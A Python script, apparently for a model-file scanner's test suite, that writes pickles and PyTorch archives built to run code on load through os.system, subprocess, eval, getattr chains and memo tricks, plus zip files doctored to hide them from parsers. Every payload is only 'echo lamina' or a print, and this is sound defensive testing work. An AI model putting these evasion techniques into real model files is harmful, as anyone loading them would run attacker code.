"""Pickles that would run something when they are loaded, by every way that is known, and archives that hide them.

What they would run is `echo lamina` or a print, and nothing here or in the tests loads them.
"""

import io
import pickle
import struct
import zipfile
import zlib

import torch

from common import save
from make_pytorch import legacy, saved

ECHO = b"echo lamina"


def text(content):
    """BINUNICODE"""
    return b"X" + struct.pack("<I", len(content)) + content


def short(content):
    """SHORT_BINUNICODE"""
    return b"\x8c" + bytes([len(content)]) + content


def name(module, attribute):
    """GLOBAL"""
    return b"c" + module + b"\n" + attribute + b"\n"


def stacked(module, attribute):
    """STACK_GLOBAL"""
    return short(module) + short(attribute) + b"\x93"


def call(function, *arguments):
    """REDUCE"""
    return function + b"(" + b"".join(arguments) + b"tR"


# What most of them come to.
SYSTEM = call(name(b"os", b"system"), text(ECHO))
PROTOCOL_2, PROTOCOL_4 = b"\x80\x02", b"\x80\x04"
BENIGN = b"\x80\x02}X\x05\x00\x00\x00torchK\x01s."


def write(path, data):
    save(f"hostile/{path}", data)


def imports():
    """Names that can do anything, spelt in all the ways that there are."""
    write("global.pkl", PROTOCOL_2 + SYSTEM + b".")
    write("text.bin", b"cposix\nsystem\n(S'echo lamina'\ntR.")
    write("text-inst.pt", b"(S'echo lamina'\nios\nsystem\n.")
    write("obj.pkl", PROTOCOL_2 + b"(" + name(b"subprocess", b"Popen") + text(ECHO) + b"o.")
    write("stack-global.pkl", PROTOCOL_4 + call(stacked(b"nt", b"system"), short(ECHO)) + b".")
    write("memo-names.pkl", PROTOCOL_4 + short(b"system") + b"\x940" + short(b"os") + b"h\x00\x93" + short(ECHO) + b"\x85R.")
    # The slot is first filled with what is harmless.
    overwritten = name(b"collections", b"OrderedDict") + b"q\x070" + name(b"os", b"system") + b"q\x070" + b"h\x07" + text(ECHO) + b"\x85R."
    write("memo-overwritten.pkl", PROTOCOL_2 + overwritten)
    put = b"cos\nsystem\np1_0\n0g10\n(S'echo lamina'\ntR."
    write("memo-text.pt", put)
    joined = call(stacked(b"operator", b"concat"), short(b"o"), short(b"s"))
    write("computed-name.pkl", PROTOCOL_4 + joined + short(b"system") + b"\x93" + short(ECHO) + b"\x85R.")
    write("dotted.pkl", PROTOCOL_4 + call(stacked(b"torch.serialization_of_mine", b"os.system"), short(ECHO)) + b".")
    write("dotted-inner.pkl", PROTOCOL_4 + call(stacked(b"collections", b"OrderedDict.__init__.__globals__.get"), short(b"sys")) + b".")
    write("new-object.pkl", PROTOCOL_2 + name(b"subprocess", b"Popen") + text(ECHO) + b"\x85\x81.")
    write("new-object-keywords.pkl", PROTOCOL_4 + stacked(b"subprocess", b"Popen") + b")}" + short(b"args") + short(ECHO) + b"s\x92.")
    write("extension.pkl", PROTOCOL_2 + call(name(b"copyreg", b"add_extension"), text(b"os"), text(b"system"), b"K\x07") + b"0\x82\x07" + text(ECHO) + b"\x85R.")
    write("python-2.pkl", PROTOCOL_2 + call(name(b"commands", b"getoutput"), text(ECHO)) + call(name(b"__builtin__", b"execfile"), text(b"x.py")) + b"\x86.")


def functions():
    """The functions that scanners know of, one call each."""
    known = [
        (b"builtins", b"eval", b"print('lamina')"),
        (b"builtins", b"exec", b"print('lamina')"),
        (b"builtins", b"compile", b"print('lamina')"),
        (b"builtins", b"__import__", b"this"),
        (b"io", b"open", b"lamina.txt"),
        (b"importlib", b"import_module", b"this"),
        (b"runpy", b"_run_code", b"print('lamina')"),
        (b"torch.hub", b"load", b"lamina/lamina"),
        (b"torch", b"load", b"lamina.pt"),
        (b"numpy.testing._private.utils", b"runstring", b"print('lamina')"),
        (b"webbrowser", b"open", b"https://example.org"),
        (b"socket", b"create_connection", b"example.org"),
        (b"requests.api", b"get", b"https://example.org"),
        (b"pty", b"spawn", ECHO),
        (b"asyncio.subprocess", b"create_subprocess_shell", ECHO),
        (b"ctypes", b"CDLL", b"lamina.so"),
        (b"pip._internal.cli.main", b"main", b"--version"),
        (b"timeit", b"timeit", b"print('lamina')"),
        (b"cProfile", b"run", b"print('lamina')"),
        (b"code", b"interact", b"lamina"),
        (b"torch._inductor.codecache", b"compile_file", b"lamina.cpp"),
        (b"builtins", b"breakpoint", b"lamina"),
        (b"shutil", b"which", b"lamina"),
        (b"pathlib", b"Path.write_text", b"lamina"),
    ]
    parts = [call(stacked(module, function), short(argument)) for module, function, argument in known]
    write("functions.pkl", PROTOCOL_4 + b"(" + b"".join(parts) + b"l.")


def chains():
    """Calls of what calls return."""
    getattr_ = name(b"builtins", b"getattr")
    module = call(name(b"builtins", b"__import__"), text(b"os"))
    write("getattr.pkl", PROTOCOL_2 + call(call(getattr_, module, text(b"system")), text(ECHO)) + b".")
    through = call(getattr_, call(getattr_, name(b"torch.serialization_of_mine", b"helpers"), text(b"os")), text(b"system"))
    write("getattr-chain.pkl", PROTOCOL_2 + call(through, text(ECHO)) + b".")
    write("attrgetter.pkl", PROTOCOL_2 + call(call(name(b"operator", b"attrgetter"), text(b"system")), name(b"models", b"helpers")) + b".")
    write("partial.pkl", PROTOCOL_2 + call(call(name(b"functools", b"partial"), name(b"os", b"system")), text(ECHO)) + b".")
    write("map.pkl", PROTOCOL_2 + call(name(b"builtins", b"list"), call(name(b"builtins", b"map"), name(b"os", b"system"), b"]" + text(ECHO) + b"a")) + b".")
    proxy = call(name(b"torch._tensor", b"_rebuild_from_type_v2"), name(b"os", b"system"), name(b"torch", b"Tensor"), text(ECHO) + b"\x85", b"N")
    write("rebuild-proxy.pkl", PROTOCOL_2 + proxy + b".")
    write("set-state.pkl", PROTOCOL_2 + name(b"argparse", b"Namespace") + b"N}" + text(b"__setstate__") + name(b"os", b"system") + b"s\x86b0"
          + name(b"argparse", b"Namespace") + b")\x81" + text(ECHO) + b"b.")
    write("set-item.pkl", PROTOCOL_2 + name(b"sys", b"modules") + text(b"lamina") + b"Ns.")
    write("hook.pkl", PROTOCOL_2 + name(b"torch.nn.modules.linear", b"Identity") + b")\x81}" + text(b"_forward_hooks") + b"}K\x00" + name(b"os", b"system") + b"ssb.")
    # What other machines than Python's may stumble over: a long number, one in hexadecimal digits, a place in a byte array, one from the end of a list.
    blocks = [
        b"\x8b" + struct.pack("<i", 2000) + b"\x7f" * 2000,
        b"I0x1_0\n",
        b"\x96\x01\x00\x00\x00\x00\x00\x00\x00aK\x00K\x01s",
        b"]NaJ\xff\xff\xff\xffK\x01s",
        b"V\\\\u is no escape\n",
    ]
    write("stumbling-blocks.pkl", b"\x80\x05" + b"".join(block + b"0" for block in blocks) + SYSTEM + b".")


def hidden():
    """Pickles where nobody looks."""
    evil = PROTOCOL_2 + SYSTEM + b"."
    write("behind.pkl", BENIGN + evil)
    write("behind-text.pt", BENIGN + b"cos\nsystem\n(S'echo lamina'\ntR.")
    write("broken-after.pkl", PROTOCOL_2 + SYSTEM + b"X\xff")
    write("broken-opcode.pt", b"cos\nsystem\n(S'echo lamina'\ntR\xff\xff\xff")
    write("inside.pkl", b"\x80\x03" + call(name(b"pickle", b"loads"), b"B" + struct.pack("<I", len(evil)) + evil) + b".")
    latin = evil.decode("latin1").encode()
    write("inside-text.pkl", PROTOCOL_2 + call(name(b"_pickle", b"loads"), call(name(b"_codecs", b"encode"), text(latin), text(b"latin1"))) + b".")
    write("inside-data.pkl", b"\x80\x03}" + text(b"torch") + b"B" + struct.pack("<I", len(evil)) + evil + b"s.")
    stream = legacy({"weight": torch.ones(2)})
    place = stream.index(b"\x80\x02", 20)
    # The magic number first, then what should be the version.
    poisoned = stream[:place] + evil + stream[place:]
    write("inside-torch.pkl", b"\x80\x03" + call(name(b"torch.storage", b"_load_from_bytes"), b"B" + struct.pack("<I", len(poisoned)) + poisoned) + b".")
    inner = archive({"data.pkl": evil})
    write("inside-archive.pkl", b"\x80\x03" + call(name(b"torch.storage", b"_load_from_bytes"), b"B" + struct.pack("<I", len(inner)) + inner) + b".")
    write("stream-first.pth", evil + stream)
    write("stream-tail.pth", stream + evil)
    write("sklearn.pkl", b"\x80\x04" + short(b"sklearn") + b"0" + call(stacked(b"os", b"system"), short(ECHO)) + b".")
    write("pickle-and-archive.pt", BENIGN + archive({"data.pkl": BENIGN}))


def archive(entries, method=zipfile.ZIP_STORED):
    """An archive of `entries` in the folder `net`; pairs may have the same name twice."""
    stream = io.BytesIO()
    with zipfile.ZipFile(stream, "w", method) as target:
        for path, content in entries.items() if isinstance(entries, dict) else entries:
            target.writestr(zipfile.ZipInfo(f"net/{path}", (1980, 1, 1, 0, 0, 0)), content, method)
    return stream.getvalue()


def patched(data, header, offset, value):
    """`data` with bytes after the first `header` replaced."""
    data = bytearray(data)
    at = data.index(header) + offset
    data[at : at + len(value)] = value
    return bytes(data)


LOCAL, CENTRAL = b"PK\x03\x04", b"PK\x01\x02"


def archives():
    """Archives that say one thing to one program and another thing to the next."""
    evil = PROTOCOL_2 + SYSTEM + b"."
    write("archive.pt", archive({"data.pkl": evil, "version": b"3\n"}))
    write("wrong-checksum.pt", patched(patched(archive({"data.pkl": evil}), LOCAL, 14, b"\xde\xad\xbe\xef"), CENTRAL, 16, b"\xde\xad\xbe\xef"))
    write("password-bit.pt", patched(patched(archive({"data.pkl": evil}), LOCAL, 6, b"\x01"), CENTRAL, 8, b"\x01"))
    write("password-bit-inside.pt", patched(archive({"data.pkl": evil}), LOCAL, 6, b"\x01"))
    write("method.pt", patched(archive({"data.pkl": evil}), LOCAL, 8, b"\x08"))
    write("local-name.pt", patched(archive({"data.pkl": evil}), b"net/data.pkl", 4, b"text.txt"))
    write("duplicates.pt", archive([("data.pkl", BENIGN), ("data.pkl", evil), ("version", b"3\n")]))
    write("duplicates-hidden.pt", archive([("data.pkl", evil), ("data.pkl", BENIGN)]))
    write("two-folders.pt", archive({"data.pkl": BENIGN, "deeper/data.pkl": evil}))
    write("other-entry.pt", archive({"data.pkl": BENIGN, "extra.pkl": evil, "version": b"3\n"}))
    write("renamed.pt", archive({"data.pkl": BENIGN, "readme.txt": evil}))
    write("as-storage.pt", archive({"data.pkl": BENIGN, "data/0": evil}))
    write("after-stop.pt", archive({"data.pkl": BENIGN + evil}))
    write("prefix.pt", archive_behind(archive({"data.pkl": evil}), 64))
    write("deflated.pt", archive({"data.pkl": evil}, zipfile.ZIP_DEFLATED))
    write("program.pt", archive({"data.pkl": BENIGN, "run": b"#!/bin/sh\necho lamina\n"}))
    array = b"\x93NUMPY\x01\x00"
    header = b"{'descr': '|O', 'fortran_order': False, 'shape': (1,), }".ljust(117) + b"\n"
    write("object-array.pt", archive({"data.pkl": BENIGN, "values.npy": array + struct.pack("<H", len(header)) + header + evil}))
    broken = evil[:-1] + b"\xff"
    write("broken-archive.pt", archive({"data.pkl": broken}))
    write("empty-main.pt", archive({"data.pkl": b"", "hidden.pkl": evil}))
    whole = saved({"weight": torch.ones(2, 2)})
    with zipfile.ZipFile(io.BytesIO(whole)) as source:
        entries = {path.partition("/")[2]: source.read(path) for path in source.namelist()}
    objects = entries["data.pkl"]
    # The payload is run, its result thrown away, and the tensors come as ever.
    entries["data.pkl"] = objects[:2] + SYSTEM + b"0" + objects[2:]
    write("injected.pt", archive(entries))


def archive_behind(data, count):
    """`data` with `count` bytes that belong to no entry after its first four, which are repeated so that the file still begins like an archive."""
    prefix = data[:4].ljust(count, b"\x00")
    data = bytearray(prefix + data)
    central, end = data.rindex(CENTRAL), data.rindex(b"PK\x05\x06")
    struct.pack_into("<I", data, central + 42, count)
    struct.pack_into("<I", data, end + 16, central)
    return bytes(data)


def others():
    """What is no pickle under the name of one."""
    content = b"lamina"
    head = b"7z\xbc\xaf\x27\x1c\x00\x04"
    start = struct.pack("<QQI", 0, 0, zlib.crc32(b""))
    write("seven-zip.pt", head + struct.pack("<I", zlib.crc32(start)) + start + content)
    write("rar.ckpt", b"Rar!\x1a\x07\x01\x00" + content)
    write("program.pth", b"\x7fELF\x02\x01\x01" + b"\x00" * 9 + b"\x02\x00" + content)


def benign():
    """What looks like it, and is none: attributes and calls that are put off, as ordinary modules have them."""
    write("benign-getattr.pkl", PROTOCOL_2 + call(name(b"builtins", b"getattr"), name(b"models", b"Colour"), text(b"RED")) + b".")
    write("benign-partial.pkl", PROTOCOL_2 + call(name(b"functools", b"partial"), name(b"torch.nn.modules.normalization", b"LayerNorm")) + b".")
    write("benign-bytes.pkl", pickle.dumps({"torch": b"\x80\x02 is no pickle", "text": "cos\nsystem\n is not one, either."}, 4))


if __name__ == "__main__":
    imports()
    functions()
    chains()
    hidden()
    archives()
    others()
    benign()
